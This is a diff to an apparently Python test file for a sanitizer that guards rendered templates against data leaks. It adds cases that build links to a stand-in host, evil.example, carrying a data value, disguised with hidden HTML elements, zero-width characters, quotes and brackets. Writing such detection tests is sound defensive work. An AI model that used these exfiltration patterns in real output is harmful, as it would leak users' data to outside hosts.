@@ -58,6 +58,8 @@ WHOLE = {
     "a bare address of another kind": "{{ title }} ftp://b.example/c",
     "a bare address whose parts are named by letters": "https://b.example/?a=1&copy=2 {{ title }}",
     "words with a colon within marks": "**Note:**{{ title }} / [When:](#a) / {{ title }} w. w/o",
+    "bare addresses in quotes": "“https://b.example/c”, (a@b.example) (www.b.example) {{ title }}",
+    "a fact close behind a link": "[a](https://b.example/c)—{{ issues[0].title }}",
     "words that only look like one": "{{ issues[0].title }} @ 5, http, www and {{ title }}: no.",
 }
 WHOLE_IN_A_SECTION = {
@@ -121,6 +123,14 @@ BUILT = {
     "bare, of another kind": f"See {{{{ 'ftp:' }}}}{EVIL}",
     "bare, a letter to somebody": f"[mailto](#a):x@evil.example?body={FACT}",
     "bare, with a joiner in it": f"See ht\u200btps{{{{ ':' }}}}{EVIL}",
+    "bare, behind a quote": f'See https://evil.example/x"{FACT}',
+    "bare, behind a stroke": f"See https://evil.example/x|'{FACT}",
+    "bare, behind a bracket": f"See https://evil.example/x]{FACT}",
+    "bare, in brackets, with a blank": "See https://evil.example/x({{ issues[0].opening }})",
+    "bare, without its kind, behind a dash": f"See -www.evil.example/{FACT}",
+    "bare, without its kind, behind a dot": f"See .www.evil.example/{FACT}",
+    "bare, without its kind, behind a sign of mail": f"See a@www.evil.example/{FACT}",
+    "bare, in an address of mail, before a sign": f"Write to {FACT}!@evil.example",
     "in an address without its kind": f"[a](//evil.example/?{FACT})",
 }
 SPLIT = f"http:{{{{ '' }}}}//evil.example/?{FACT}"
@@ -150,6 +160,10 @@ BUILT_IN_A_SECTION = {
     "bare, around a comment that has ended": f"a ftp{{{{ ':' }}}}<!-->{EVIL}<!-- -->",
     "bare, around a block that is set as words": f"""<p style="display: inline">ftp:</p>{EVIL}""",
     "bare, in a chart": f"""```chart range\n{{"issue": "https\\u003a{EVIL}"}}\n```""",
+    "bare, around words that are hidden": f"https<i hidden>a b</i>{{{{ ':' }}}}{EVIL}",
+    "bare, around words of no size": f"""https<i style="font-size:0"> </i>{{{{ ':' }}}}{EVIL}""",
+    "bare, around a bracket that is not seen": f"https<rp> </rp>{{{{ ':' }}}}{EVIL}",
+    "bare, around a blank that a sheet may hide": f"https<i class='a'> </i>{{{{ ':' }}}}{EVIL}",
     "between angles": f"<{FAR}{FACT}>",
     "in an address named elsewhere": f"[m]\n\n[m]: {FAR}{FACT}",
     "in raw HTML": f'<a href="{FAR}{FACT}">m</a>',
